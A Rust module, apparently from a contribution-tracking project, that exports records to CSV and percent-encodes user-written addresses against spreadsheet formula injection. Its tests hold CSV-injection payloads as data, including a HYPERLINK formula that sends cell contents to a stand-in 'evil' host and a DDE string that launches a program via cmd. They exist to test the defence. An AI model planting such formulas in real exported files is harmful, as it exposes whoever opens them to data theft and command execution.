//! Contributions as a table: CSV with commas, a header, and one row each.
//!
//! The first columns are those in which contributions are recorded, so the table goes back in by
//! `commons record --from`; those behind them say what became of each, and are not read.
//!
//! **What others wrote.** Spreadsheets take a cell that begins with `=`, `+`, `-` or `@` for a formula, and a
//! formula can fetch, and tell, what is in other cells. Of all cells only `uri` holds what others wrote
//! freely. There such a beginning, at the start or behind a character that some spreadsheets separate cells
//! by, is percent-encoded, as everything is that no address can contain: quotes, blanks at an end, control
//! and invisible characters, and what is no text. No address that works is changed by it, since every one
//! begins with a letter; and encoding once more changes nothing, so the table stays the same on its way
//! through another commons.
//!
//! **Numbers of another commons.** Projects, needs and cited contributions are numbers of this commons. In
//! another one they would mean something else, and a citation gives points: [`References::Drop`] leaves them
//! out of the columns that are read.

use super::{Deed, Past};
use crate::{
    batch,
    error::{Error, Result},
    format::{action, decimal, effort, time},
};
use commons_core::{
    Address,
    contribution::{Settlement, Status},
    review::Outcome,
    units::Points,
};

/// Columns that say what became of a contribution; those in which it is recorded come before them.
pub const FATE: [&str; 10] = [
    "id", "agent", "recorder", "recorded", "revision", "status", "settled", "grade", "value",
    "counts",
];

/// What becomes of the numbers of projects, needs and cited contributions.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum References {
    /// They stay: the table is read by people, or goes back into the same commons.
    Keep,
    /// They are left out, and the project is the commons as a whole: for another commons.
    Drop,
}

/// Whether anything in a contribution is a number that means something in its commons only.
pub fn refers(deed: &Deed) -> bool {
    let draft = &deed.stored.draft;
    draft.project.0 != 0 || !draft.cites.is_empty() || draft.satisfies.is_some()
}

/// The table, of one agent's contributions or of all.
pub fn table(past: &Past<'_>, agent: Option<Address>, references: References) -> Result<String> {
    let failed = |error: &dyn std::fmt::Display| {
        Error::new("export_failed", format!("The table cannot be written: {error}."))
    };
    let mut writer = csv::Writer::from_writer(Vec::new());
    let header = batch::WORKS.read.iter().chain(&FATE);
    writer.write_record(header).map_err(|error| failed(&error))?;
    let chosen = |deed: &&Deed| agent.is_none_or(|agent| deed.stored.agent == agent);
    for deed in past.deeds.iter().filter(chosen) {
        let stated = batch::WORKS.read.iter().map(|column| stated(deed, column, references));
        let fate = FATE.iter().map(|column| fate(deed, column));
        let cells: Vec<String> = stated.chain(fate).collect();
        writer.write_record(&cells).map_err(|error| failed(&error))?;
    }
    let bytes = writer.into_inner().map_err(|error| failed(&error))?;
    String::from_utf8(bytes).map_err(|error| failed(&error))
}

/// A cell that is read when contributions are recorded.
fn stated(deed: &Deed, column: &str, references: References) -> String {
    let draft = &deed.stored.draft;
    let keep = references == References::Keep;
    match column {
        "action" => action(draft.action).into(),
        "amount" => decimal(draft.effort.milli.into(), 3),
        "unit" => {
            effort(draft.effort).split_once(' ').map(|(_, unit)| unit.into()).unwrap_or_default()
        }
        "claim" => decimal(draft.claimed.0.into(), Points::DECIMALS),
        "project" if keep => draft.project.to_string(),
        "project" => "0".into(),
        "evidence" if draft.evidence.is_zero() => String::new(),
        "evidence" => format!("{:?}", draft.evidence),
        "uri" => uri(&deed.uri),
        "cites" if keep => {
            let cites: Vec<_> = draft.cites.iter().map(ToString::to_string).collect();
            cites.join(" ")
        }
        "satisfies" if keep => draft.satisfies.map(|need| need.0.to_string()).unwrap_or_default(),
        _ => String::new(),
    }
}

/// A cell that says what became of a contribution.
fn fate(deed: &Deed, column: &str) -> String {
    let stored = &deed.stored;
    let settled = match deed.status {
        Status::Settled(settlement) => Some(settlement),
        _ => None,
    };
    let accepted = settled.and_then(|it| match it.outcome {
        Outcome::Accepted { grade, .. } => Some((grade, it)),
        _ => None,
    });
    let of = |show: fn((u8, Settlement)) -> String| accepted.map(show).unwrap_or_default();
    match column {
        "id" => deed.id.to_string(),
        "agent" => format!("{:?}", stored.agent),
        "recorder" => stored.recorder.map(|agent| format!("{agent:?}")).unwrap_or_default(),
        "recorded" => time(deed.recorded),
        "revision" => stored.revision().to_string(),
        "status" => status(deed.status).into(),
        "settled" => settled.map(|it| time(it.at)).unwrap_or_default(),
        "grade" => of(|(grade, _)| grade.to_string()),
        // What stands, after corrections.
        "value" => of(|(_, it)| decimal(it.standing.0.into(), Points::DECIMALS)),
        "counts" => of(|(_, it)| it.counts.0.to_string()),
        _ => String::new(),
    }
}

/// Where a contribution stands, in a word.
pub fn status(status: Status) -> &'static str {
    match status {
        Status::AwaitingConsent => "awaiting_consent",
        Status::Declined => "declined",
        Status::InReview { .. } => "in_review",
        Status::AwaitingSettlement => "awaiting_settlement",
        Status::Withdrawn => "withdrawn",
        Status::Settled(settlement) => match settlement.outcome {
            Outcome::Accepted { .. } => "accepted",
            Outcome::Rejected => "rejected",
            Outcome::Lapsed => "lapsed",
        },
    }
}

/// An address as others wrote it, which no spreadsheet takes for a formula.
pub fn uri(bytes: &[u8]) -> String {
    let mut safe = String::new();
    let mut rest = bytes;
    // Whether what comes next may be the beginning of a cell, here or where others separate cells.
    let mut begins = true;
    while !rest.is_empty() {
        let valid = match std::str::from_utf8(rest) {
            Ok(text) => text,
            // Up to there it is text.
            Err(error) => std::str::from_utf8(&rest[..error.valid_up_to()]).unwrap_or_default(),
        };
        let Some(c) = valid.chars().next() else {
            safe += &format!("%{:02X}", rest[0]);
            (rest, begins) = (&rest[1..], false);
            continue;
        };
        rest = &rest[c.len_utf8()..];
        let at_an_end = safe.is_empty() || rest.is_empty();
        let shown = crate::format::untrusted(c.to_string().as_bytes());
        let hidden = shown.chars().ne([c]);
        let formula = begins && "=+-@＝＋－＠".contains(c);
        if hidden || formula || c == '"' || (c.is_whitespace() && (at_an_end || c != ' ')) {
            let mut buffer = [0; 4];
            for byte in c.encode_utf8(&mut buffer).bytes() {
                safe += &format!("%{byte:02X}");
            }
            begins = false;
        } else {
            safe.push(c);
            begins = matches!(c, ',' | ';' | '|' | ' ');
        }
    }
    safe
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_address_that_works_stays_as_it_is() {
        for text in [
            "",
            "https://example.org/minutes?page=2&sort=-date+time@home#top",
            "ipfs://bafy",
            "mailto:maria@example.org",
            "https://example.org/größe/日本",
            "minutes of May, page 3",
            "a;b,c|d",
        ] {
            assert_eq!(uri(text.as_bytes()), text);
        }
    }

    #[test]
    fn nothing_that_others_wrote_is_a_formula() {
        for (text, safe) in [
            ("=HYPERLINK(\"http://evil/\"&A1)", "%3DHYPERLINK(%22http://evil/%22&A1)"),
            ("+1+cmd|' /C calc'!A0", "%2B1+cmd|' /C calc'!A0"),
            ("-2+3", "%2D2+3"),
            ("@SUM(1)", "%40SUM(1)"),
            (" =1", "%20=1"),
            ("\t=1", "%09=1"),
            ("\r\n=1", "%0D%0A=1"),
            ("x;=1", "x;%3D1"),
            ("x,=1", "x,%3D1"),
            ("x\",=1", "x%22,%3D1"),
            ("x; =1", "x; %3D1"),
            ("  =1", "%20 %3D1"),
            ("＝1", "%EF%BC%9D1"),
            ("\u{200b}=1", "%E2%80%8B=1"),
            ("a\u{202e}b", "a%E2%80%AEb"),
            ("x\u{a0}", "x%C2%A0"),
            ("x ", "x%20"),
        ] {
            assert_eq!(uri(text.as_bytes()), safe, "{text:?}");
            assert_eq!(uri(safe.as_bytes()), safe, "once is enough: {text:?}");
        }
        assert_eq!(uri(b"=\xff\xfe"), "%3D%FF%FE");
        assert_eq!(uri(b"\xff=1"), "%FF=1");
    }

    /// Whatever is written, no part of it that any spreadsheet makes a cell of begins like a formula.
    #[test]
    fn no_bytes_at_all_are_a_formula() {
        let pieces: [&[u8]; 14] = [
            b"=",
            b"+",
            b"-",
            b"@",
            b"a",
            b" ",
            b";",
            b",",
            b"\t",
            b"\n",
            b"\"",
            b"\xff",
            b"|",
            "\u{a0}".as_bytes(),
        ];
        for a in pieces {
            for b in pieces {
                for c in pieces {
                    let text = [a, b, c].concat();
                    let safe = uri(&text);
                    for cell in safe.split([',', ';', '|', '\t', '\n', '"']) {
                        let cell = cell.trim_start();
                        assert!(!cell.starts_with(['=', '+', '-', '@']), "{text:?} {safe:?}");
                    }
                    assert!(!safe.contains('"') && safe.trim() == safe);
                    assert_eq!(uri(safe.as_bytes()), safe, "{text:?}");
                }
            }
        }
    }
}
